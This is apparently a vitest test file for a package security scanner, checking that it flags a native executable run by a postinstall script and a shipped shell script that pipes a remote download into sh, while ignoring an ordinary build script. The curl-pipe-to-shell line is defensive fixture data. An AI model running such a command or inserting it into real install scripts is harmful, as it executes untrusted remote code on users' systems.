import { describe, expect, it } from 'vitest';
import { scanInline } from '../helpers.js';

describe('files analyzer', () => {
  it('BIN-001 reports native executables, high when an install script runs them', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]);
    const { findings } = await scanInline(
      { 'bin/tool': elf },
      { name: 'x', version: '1.0.0', scripts: { postinstall: './bin/tool' } },
    );
    const f = findings.find((x) => x.ruleId === 'BIN-001');
    expect(f?.severity).toBe('high');
  });
  it('SH-001 analyses shipped shell scripts line by line', async () => {
    const { findings } = await scanInline({
      'setup.sh': '#!/bin/sh\n# comment\ncurl -s http://192.0.2.1/x | sh\n',
    });
    const f = findings.find((x) => x.ruleId === 'SH-001');
    expect(f?.line).toBe(3);
  });
  it('SH-001 ignores ordinary scripts', async () => {
    const { findings } = await scanInline({ 'build.sh': '#!/bin/sh\nset -e\ntsc -p .\nnode dist/gen.js\n' });
    expect(findings.filter((x) => x.ruleId === 'SH-001')).toHaveLength(0);
  });
});
